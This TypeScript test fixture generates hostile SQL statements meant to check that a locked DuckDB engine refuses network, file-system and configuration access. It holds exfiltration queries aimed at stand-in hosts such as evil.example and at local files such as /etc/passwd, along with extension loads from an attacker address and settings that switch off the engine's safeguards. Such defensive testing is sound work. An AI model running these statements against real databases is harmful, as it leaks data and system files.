export interface HostileStatement {
  readonly name: string;
  readonly text: string;
  /** Accepted by this engine build, and without effect: why. It must reach nothing all the same. */
  readonly inert?: string;
}

const NOTES_A_NAME = 'INSTALL only notes the name in this build; LOAD is what fetches';

/**
 * Statements that try to reach the network, the file system or the engine's own settings. The locked
 * engine must refuse every one that is not inert, and none may reach `origin` whatever is in force.
 *
 * @param origin an address that listens, e.g. http://127.0.0.1:4000
 */
export function hostileStatements(origin: string): readonly HostileStatement[] {
  const authority = new URL(origin).host;
  const addresses = {
    'a foreign http address': `${origin}/leak`,
    'a foreign https address': 'https://evil.example/leak',
    'an s3 bucket': 's3://evil-bucket/leak',
    'a Google bucket': 'gcs://evil-bucket/leak',
    'a Hugging Face address': 'hf://datasets/evil/leak',
    'a system file': '/etc/passwd',
    'a file address': 'file:///etc/passwd',
    'a way out of app/': 'app/../leak',
    'a relative file': 'leak',
  };
  const readers: Readonly<Record<string, (address: string) => string>> = {
    read_csv: (address) => `SELECT * FROM read_csv('${address}.csv')`,
    read_csv_auto: (address) => `SELECT * FROM read_csv_auto('${address}.csv', header = true)`,
    read_text: (address) => `SELECT * FROM read_text('${address}.txt')`,
    read_blob: (address) => `SELECT * FROM read_blob('${address}.bin')`,
    glob: (address) => `SELECT * FROM glob('${address}/*')`,
    'a bare name': (address) => `SELECT * FROM '${address}.csv'`,
    'COPY TO': (address) => `COPY (SELECT 42 AS leak) TO '${address}.csv'`,
    'COPY FROM': (address) => `COPY hostile_target FROM '${address}.csv'`,
    ATTACH: (address) => `ATTACH '${address}.duckdb' AS leak_${address.length}`,
    'EXPORT DATABASE': (address) => `EXPORT DATABASE '${address}'`,
    'IMPORT DATABASE': (address) => `IMPORT DATABASE '${address}'`,
  };
  const crossed = Object.entries(readers).flatMap(([reader, write]) =>
    Object.entries(addresses).map(([what, address]) => ({ name: `${reader} of ${what}`, text: write(address) })),
  );
  return [
    ...crossed,
    { name: 'read_csv with the leak in the address', text: `SELECT * FROM read_csv('${origin}/?id=' || 'secret')` },
    { name: 'read_csv of a list', text: `SELECT * FROM read_csv(['${origin}/a.csv', '${origin}/b.csv'])` },
    { name: 'read_parquet', text: `SELECT * FROM read_parquet('${origin}/a.parquet')` },
    { name: 'parquet_metadata', text: `SELECT * FROM parquet_metadata('${origin}/a.parquet')` },
    { name: 'read_json', text: `SELECT * FROM read_json('${origin}/a.json')` },
    { name: 'sniff_csv', text: `SELECT * FROM sniff_csv('${origin}/a.csv')` },
    { name: 'INSTALL', text: 'INSTALL httpfs', inert: NOTES_A_NAME },
    { name: 'INSTALL from a repository', text: `INSTALL spatial FROM '${origin}'`, inert: NOTES_A_NAME },
    { name: 'FORCE INSTALL', text: 'FORCE INSTALL json FROM community', inert: NOTES_A_NAME },
    { name: 'LOAD', text: 'LOAD spatial' },
    { name: 'LOAD of an address', text: `LOAD '${origin}/evil.duckdb_extension.wasm'` },
    { name: 'UPDATE EXTENSIONS', text: 'UPDATE EXTENSIONS (httpfs)' },
    { name: 'CREATE SECRET', text: `CREATE SECRET leak (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '${authority}')` },
    {
      name: 'CREATE PERSISTENT SECRET',
      text: "CREATE PERSISTENT SECRET leak2 (TYPE http, BEARER_TOKEN 'a')",
      inert: "the file lies in the engine's own memory and goes with the page",
    },
    { name: 'getenv', text: "SELECT getenv('HOME')" },
    ...SETTINGS.map(([setting, value]) => ({ name: `SET ${setting}`, text: `SET ${setting} = ${value}` })),
    ...SETTINGS.map(([setting, value]) => ({
      name: `SET GLOBAL ${setting}`,
      text: `SET GLOBAL ${setting} = ${value}`,
    })),
    ...SETTINGS.map(([setting]) => ({ name: `RESET ${setting}`, text: `RESET ${setting}` })),
    ...SETTINGS.map(([setting, value]) => ({ name: `PRAGMA ${setting}`, text: `PRAGMA ${setting} = ${value}` })),
  ];
}

const SETTINGS: readonly (readonly [name: string, value: string])[] = [
  ['enable_external_access', 'true'],
  ['lock_configuration', 'false'],
  ['allowed_directories', "['/']"],
  ['allowed_paths', "['/etc/passwd']"],
  ['autoload_known_extensions', 'true'],
  ['autoinstall_known_extensions', 'true'],
  ['allow_community_extensions', 'true'],
  ['allow_unsigned_extensions', 'true'],
  ['custom_extension_repository', "'http://evil.example'"],
  ['extension_directory', "'/tmp'"],
  ['temp_directory', "'/tmp'"],
  ['home_directory', "'/tmp'"],
  ['secret_directory', "'/tmp'"],
  ['memory_limit', "'100GB'"],
];
